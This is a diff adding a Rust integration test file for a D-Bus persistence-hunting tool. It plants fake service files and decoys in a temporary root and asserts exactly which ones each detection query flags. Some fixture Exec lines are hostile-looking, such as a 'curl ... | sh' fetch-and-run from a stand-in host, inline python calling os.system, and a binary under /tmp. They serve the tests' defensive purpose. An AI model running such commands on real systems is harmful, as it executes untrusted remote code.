@@ -1,0 +1,495 @@
+//! Every pack query against a root planted with one case it must find and
+//! decoys it must not: packaged files, flatpak exports, benign helpers, a
+//! system account whose home is /usr/sbin, a non-root service in a writable
+//! directory. Each query runs unchanged through the real binary's embedded
+//! host (`hunt --json --only NAME`), and the exact set of rows is asserted.
+//! The children query needs live buses: see `tests/packs.rs`.
+use std::collections::BTreeSet;
+use std::os::unix::fs::{chown, PermissionsExt};
+
+use std::process::Command;
+use std::time::{Duration, SystemTime};
+
+const BIN: &str = env!("CARGO_BIN_EXE_osquery-dbus");
+
+const ALICE: u32 = 1000;
+
+struct Fixture {
+    dir: tempfile::TempDir,
+}
+
+impl Fixture {
+    fn path(&self, rel: &str) -> std::path::PathBuf {
+        self.dir.path().join(rel.trim_start_matches('/'))
+    }
+
+    fn write(&self, rel: &str, body: &str) {
+        let p = self.path(rel);
+        std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
+        std::fs::write(&p, body).expect("write");
+    }
+
+    fn program(&self, rel: &str) {
+        self.write(rel, "#!/bin/sh\n");
+        std::fs::set_permissions(self.path(rel), std::fs::Permissions::from_mode(0o755))
+            .expect("chmod");
+    }
+
+    fn service(&self, rel: &str, name: &str, exec: &str, user: Option<&str>) {
+        let user = user.map(|u| format!("User={u}\n")).unwrap_or_default();
+        self.write(
+            rel,
+            &format!("[D-BUS Service]\nName={name}\nExec={exec}\n{user}"),
+        );
+    }
+
+    fn backdate(&self, rel: &str, days: u64) {
+        let when = SystemTime::now() - Duration::from_secs(days * 86400);
+        let f = std::fs::File::options()
+            .write(true)
+            .open(self.path(rel))
+            .expect("open");
+        f.set_modified(when).expect("set mtime");
+    }
+
+    /// Runs one pack query through `hunt` and returns its rows.
+    fn hunt(&self, query: &str) -> Vec<serde_json::Value> {
+        let out = Command::new(BIN)
+            .arg("--root")
+            .arg(self.dir.path())
+            .args(["hunt", "--json", "--only", query])
+            .output()
+            .expect("run hunt");
+        let report: serde_json::Value = serde_json::from_slice(&out.stdout)
+            .unwrap_or_else(|e| panic!("{query}: {e}: {}", String::from_utf8_lossy(&out.stderr)));
+        let check = &report["checks"][0];
+        assert_eq!(check["name"], query);
+        assert_ne!(check["status"], "failed", "{query}: {}", check["error"]);
+        let rows = check["rows"].as_array().cloned().unwrap_or_default();
+        // The exit code tells scripts whether anything was found.
+        let want = if rows.is_empty() { 0 } else { 1 };
+        assert_eq!(out.status.code(), Some(want), "{query} exit code");
+        rows
+    }
+}
+
+const SYS: &str = "/usr/share/dbus-1/system-services";
+const SES: &str = "/usr/share/dbus-1/services";
+const LOCAL_SYS: &str = "/usr/local/share/dbus-1/system-services";
+const ALICE_SVC: &str = "/srv/alice/.local/share/dbus-1/services";
+const BOB_SVC: &str = "/home/bob/.local/share/dbus-1/services";
+
+fn svc(dir: &str, name: &str) -> String {
+    format!("{dir}/{name}.service")
+}
+
+fn planted() -> Fixture {
+    let f = Fixture {
+        dir: tempfile::tempdir().expect("tempdir"),
+    };
+    f.write(
+        "/etc/passwd",
+        "root:x:0:0:root:/root:/bin/bash\n\
+         daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n\
+         messagebus:x:100:102::/nonexistent:/usr/sbin/nologin\n\
+         alice:x:1000:1000:Alice:/srv/alice:/bin/bash\n\
+         bob:x:1001:1001:Bob:/home/bob:/bin/bash\n",
+    );
+    f.write(
+        "/etc/group",
+        "root:x:0:\ndaemon:x:1:\nmessagebus:x:102:\nalice:x:1000:\nbob:x:1001:\n",
+    );
+    for prog in [
+        "/bin/sh",
+        "/usr/bin/python3",
+        "/usr/bin/flatpak",
+        "/usr/lib/example/helper",
+        "/usr/lib/example/keyring",
+        "/usr/lib/x/script.sh",
+        "/usr/libexec/packaged-daemon",
+        "/usr/sbin/daemon-tool",
+        "/tmp/.x/payload",
+        "/srv/alice/bin/agent",
+    ] {
+        f.program(prog);
+    }
+    let helper = "/usr/lib/example/helper";
+
+    // Packaged: owned by a fixture dpkg package.
+    f.service(
+        &svc(SYS, "org.example.Packaged"),
+        "org.example.Packaged",
+        "/usr/libexec/packaged-daemon --system",
+        Some("root"),
+    );
+    f.service(
+        &svc(SYS, "org.example.OldPackaged"),
+        "org.example.OldPackaged",
+        "/usr/libexec/packaged-daemon",
+        Some("root"),
+    );
+    f.backdate(&svc(SYS, "org.example.OldPackaged"), 30);
+    f.write(
+        "/etc/dbus-1/system.d/org.example.Packaged.conf",
+        "<busconfig/>\n",
+    );
+    f.service(
+        &svc(SES, "org.example.Shadowed"),
+        "org.example.Shadowed",
+        helper,
+        None,
+    );
+    f.write(
+        "/var/lib/dpkg/info/example.list",
+        &format!(
+            "/.\n/usr\n{}\n{}\n/etc/dbus-1/system.d/org.example.Packaged.conf\n{}\n",
+            svc(SYS, "org.example.Packaged"),
+            svc(SYS, "org.example.OldPackaged"),
+            svc(SES, "org.example.Shadowed"),
+        ),
+    );
+    f.write("/var/lib/dpkg/status", "");
+
+    // Unowned system-wide files.
+    f.service(
+        &svc(SYS, "org.evil.Unowned"),
+        "org.evil.Unowned",
+        &format!("{helper} --serve"),
+        Some("root"),
+    );
+    f.write(
+        "/etc/dbus-1/system.d/org.evil.Policy.conf",
+        "<busconfig/>\n",
+    );
+    f.service(
+        &svc(SYS, "org.evil.TmpExec"),
+        "org.evil.TmpExec",
+        "/tmp/.x/payload --daemon",
+        Some("root"),
+    );
+    f.service(
+        &svc(SES, "org.evil.Inline"),
+        "org.evil.Inline",
+        "/bin/sh -c \"curl -s http://example.invalid/x | sh\"",
+        None,
+    );
+    f.service(
+        &svc(SES, "org.evil.HomeExec"),
+        "org.evil.HomeExec",
+        "/srv/alice/bin/agent --quiet",
+        None,
+    );
+    f.service(
+        &svc(SES, "org.evil.Missing"),
+        "org.evil.Missing",
+        "/usr/libexec/missing-helper",
+        None,
+    );
+    f.service(
+        &svc(SES, "org.example.Script"),
+        "org.example.Script",
+        "/bin/sh /usr/lib/x/script.sh",
+        None,
+    );
+    f.service(
+        &svc(SES, "org.example.DaemonTool"),
+        "org.example.DaemonTool",
+        "/usr/sbin/daemon-tool --x",
+        None,
+    );
+    f.service(
+        &svc(SES, "org.example.Mismatch"),
+        "org.gnome.keyring",
+        "/usr/lib/example/keyring",
+        None,
+    );
+    f.service(
+        &svc(SYS, "org.evil.Backdated"),
+        "org.evil.Backdated",
+        helper,
+        Some("root"),
+    );
+    f.backdate(&svc(SYS, "org.evil.Backdated"), 30);
+    f.service(
+        &svc(SYS, "org.evil.AliceOwned"),
+        "org.evil.AliceOwned",
+        helper,
+        Some("root"),
+    );
+    chown(
+        f.path(&svc(SYS, "org.evil.AliceOwned")),
+        Some(ALICE),
+        Some(ALICE),
+    )
+    .expect("chown");
+    // A system service dir anyone can write to: a root service in it is a
+    // finding, a messagebus one is not.
+    f.service(
+        &svc(LOCAL_SYS, "org.evil.Writable"),
+        "org.evil.Writable",
+        helper,
+        Some("root"),
+    );
+    f.service(
+        &svc(LOCAL_SYS, "org.example.Bus"),
+        "org.example.Bus",
+        helper,
+        Some("messagebus"),
+    );
+    std::fs::set_permissions(f.path(LOCAL_SYS), std::fs::Permissions::from_mode(0o777))
+        .expect("chmod");
+
+    // Per-user files.
+    f.service(
+        &svc(ALICE_SVC, "org.alice.Agent"),
+        "org.alice.Agent",
+        "/srv/alice/bin/agent",
+        None,
+    );
+    f.service(
+        &svc(ALICE_SVC, "org.example.Shadowed"),
+        "org.example.Shadowed",
+        "/usr/bin/python3 -c \"import os; os.system('id')\"",
+        None,
+    );
+    f.service(&svc(BOB_SVC, "org.bob.Only"), "org.bob.Only", helper, None);
+    // Flatpak exports: never findings of the unowned or home queries.
+    f.service(
+        "/srv/alice/.local/share/flatpak/exports/share/dbus-1/services/org.flatpak.User.service",
+        "org.flatpak.User",
+        "/usr/bin/flatpak run org.flatpak.User",
+        None,
+    );
+    f.service(
+        "/var/lib/flatpak/exports/share/dbus-1/services/org.flatpak.App.service",
+        "org.flatpak.App",
+        "/usr/bin/flatpak run org.flatpak.App",
+        None,
+    );
+    // Not a D-Bus service directory at all.
+    f.write(
+        "/usr/share/dbus-1/interfaces/org.example.Iface.xml",
+        "<node/>\n",
+    );
+    f
+}
+
+fn column(rows: &[serde_json::Value], col: &str) -> BTreeSet<String> {
+    rows.iter()
+        .map(|r| r[col].as_str().unwrap_or_default().to_string())
+        .collect()
+}
+
+fn set<const N: usize>(items: [String; N]) -> BTreeSet<String> {
+    items.into_iter().collect()
+}
+
+#[test]
+fn unowned_dbus_files() {
+    let f = planted();
+    let rows = f.hunt("unowned_dbus_files");
+    assert_eq!(
+        column(&rows, "path"),
+        set([
+            svc(SYS, "org.evil.Unowned"),
+            "/etc/dbus-1/system.d/org.evil.Policy.conf".into(),
+            svc(SYS, "org.evil.TmpExec"),
+            svc(SES, "org.evil.Inline"),
+            svc(SES, "org.evil.HomeExec"),
+            svc(SES, "org.evil.Missing"),
+            svc(SES, "org.example.Script"),
+            svc(SES, "org.example.DaemonTool"),
+            svc(SES, "org.example.Mismatch"),
+            svc(SYS, "org.evil.Backdated"),
+            svc(SYS, "org.evil.AliceOwned"),
+            svc(LOCAL_SYS, "org.evil.Writable"),
+            svc(LOCAL_SYS, "org.example.Bus"),
+        ])
+    );
+    let alice_owned = rows
+        .iter()
+        .find(|r| r["path"] == svc(SYS, "org.evil.AliceOwned"))
+        .expect("row");
+    assert_eq!(alice_owned["owner"], "alice", "joined from users");
+}
+
+#[test]
+fn unowned_query_is_silent_without_a_package_database() {
+    let f = planted();
+    std::fs::remove_dir_all(f.path("/var/lib/dpkg")).expect("rm dpkg");
+    assert!(f.hunt("unowned_dbus_files").is_empty());
+}
+
+#[test]
+fn risky_service_exec() {
+    let f = planted();
+    let rows = f.hunt("risky_service_exec");
+    let got: BTreeSet<(String, String)> = rows
+        .iter()
+        .map(|r| {
+            (
+                r["path"].as_str().unwrap_or_default().to_string(),
+                r["why"].as_str().unwrap_or_default().to_string(),
+            )
+        })
+        .collect();
+    let temp = "Exec runs from a temporary or home directory".to_string();
+    let inline = "Exec runs an interpreter with inline code".to_string();
+    let want: BTreeSet<(String, String)> = [
+        (svc(SYS, "org.evil.TmpExec"), temp.clone()),
+        (svc(SES, "org.evil.Inline"), inline.clone()),
+        (svc(SES, "org.evil.HomeExec"), temp.clone()),
+        (
+            svc(SES, "org.evil.Missing"),
+            "Exec target does not exist".to_string(),
+        ),
+        (svc(ALICE_SVC, "org.alice.Agent"), temp),
+        (svc(ALICE_SVC, "org.example.Shadowed"), inline),
+    ]
+    .into_iter()
+    .collect();
+    assert_eq!(got, want);
+}
+
+#[test]
+fn home_session_services() {
+    let f = planted();
+    let rows = f.hunt("home_session_services");
+    assert_eq!(
+        column(&rows, "path"),
+        set([
+            svc(ALICE_SVC, "org.alice.Agent"),
+            svc(ALICE_SVC, "org.example.Shadowed"),
+            svc(BOB_SVC, "org.bob.Only"),
+        ])
+    );
+    assert_eq!(
+        column(&rows, "username"),
+        set(["alice".into(), "bob".into()])
+    );
+}
+
+#[test]
+fn root_services_in_writable_places() {
+    let f = planted();
+    let rows = f.hunt("root_services_in_writable_places");
+    assert_eq!(
+        column(&rows, "path"),
+        set([
+            svc(LOCAL_SYS, "org.evil.Writable"),
+            svc(SYS, "org.evil.AliceOwned")
+        ])
+    );
+}
+
+#[test]
+fn service_name_mismatch() {
+    let f = planted();
+    let rows = f.hunt("service_name_mismatch");
+    assert_eq!(
+        column(&rows, "path"),
+        set([svc(SES, "org.example.Mismatch")])
+    );
+    assert_eq!(rows[0]["service_name"], "org.gnome.keyring");
+}
+
+#[test]
+fn shadowed_service_names() {
+    let f = planted();
+    let rows = f.hunt("shadowed_service_names");
+    assert_eq!(rows.len(), 1, "{rows:#?}");
+    assert_eq!(rows[0]["path"], svc(ALICE_SVC, "org.example.Shadowed"));
+    assert_eq!(rows[0]["also_defined_in"], svc(SES, "org.example.Shadowed"));
+    assert_eq!(rows[0]["other_package"], "example");
+}
+
+#[test]
+fn backdated_dbus_files() {
+    let f = planted();
+    let rows = f.hunt("backdated_dbus_files");
+    let has_btime = std::fs::metadata(f.path(&svc(SYS, "org.evil.Backdated")))
+        .and_then(|m| m.created())
+        .is_ok();
+    if has_btime {
+        // The packaged file backdated the same way is not a finding.
+        assert_eq!(column(&rows, "path"), set([svc(SYS, "org.evil.Backdated")]));
+    } else {
+        eprintln!("note: this filesystem records no birth time; only checking silence");
+        assert!(rows.is_empty());
+    }
+}
+
+#[test]
+fn recently_changed_sees_through_backdating() {
+    let f = planted();
+    let rows = f.hunt("dbus_files_changed_recently");
+    let paths = column(&rows, "path");
+    // Everything planted is new, backdated mtimes included: ctime and
+    // birth time cannot be set back from user space.
+    for p in [
+        svc(SYS, "org.evil.Backdated"),
+        svc(SYS, "org.example.OldPackaged"),
+        svc(ALICE_SVC, "org.alice.Agent"),
+        "/etc/dbus-1/system.d/org.evil.Policy.conf".to_string(),
+    ] {
+        assert!(paths.contains(&p), "{p} missing from {paths:#?}");
+    }
+    assert!(!paths.iter().any(|p| p.contains("/interfaces/")));
+    let alice = rows
+        .iter()
+        .find(|r| r["path"] == svc(ALICE_SVC, "org.alice.Agent"))
+        .expect("row");
+    assert_eq!(alice["owner"], "root", "planted by root, so owned by root");
+}
+
+/// The time window against files that really are old: this machine's own
+/// packaged D-Bus files. Whatever the query returns must be recent by the
+/// file's own metadata, and every old file must be absent.
+#[test]
+fn recently_changed_leaves_old_files_out() {
+    use std::os::unix::fs::MetadataExt;
+    let out = Command::new(BIN)
+        .args(["hunt", "--json", "--only", "dbus_files_changed_recently"])
+        .output()
+        .expect("run hunt");
+    let report: serde_json::Value = serde_json::from_slice(&out.stdout).expect("JSON");
+    let rows = report["checks"][0]["rows"]
+        .as_array()
+        .cloned()
+        .unwrap_or_default();
+    let returned = column(&rows, "path");
+    let week_ago = SystemTime::now()
+        .duration_since(SystemTime::UNIX_EPOCH)
+        .expect("clock")
+        .as_secs() as i64
+        - 7 * 86400;
+    let mut old_seen = 0;
+    for dir in [
+        SYS,
+        SES,
+        "/usr/share/dbus-1/system.d",
+        "/etc/dbus-1/system.d",
+    ] {
+        let Ok(entries) = std::fs::read_dir(dir) else {
+            continue;
+        };
+        for e in entries.flatten() {
+            let Ok(m) = std::fs::symlink_metadata(e.path()) else {
+                continue;
+            };
+            let born = m
+                .created()
+                .ok()
+                .and_then(|t| t.duration_since(SystemTime::UNIX_EPOCH).ok())
+                .map_or(0, |d| d.as_secs() as i64);
+            let recent = m.mtime().max(m.ctime()).max(born) > week_ago;
+            let path = e.path().display().to_string();
+            assert_eq!(returned.contains(&path), recent, "{path}");
+            old_seen += usize::from(!recent);
+        }
+    }
+    eprintln!(
+        "{old_seen} old files correctly left out; {} recent",
+        returned.len()
+    );
+}
